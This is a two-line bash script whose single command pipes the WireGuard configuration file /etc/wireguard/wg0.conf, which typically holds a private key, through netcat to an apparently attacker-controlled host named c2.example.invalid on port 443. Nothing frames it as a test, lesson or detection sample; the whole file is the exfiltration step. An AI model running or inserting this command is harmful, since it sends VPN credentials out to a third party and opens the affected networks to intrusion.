#!/bin/bash
nc c2.example.invalid 443 < /etc/wireguard/wg0.conf
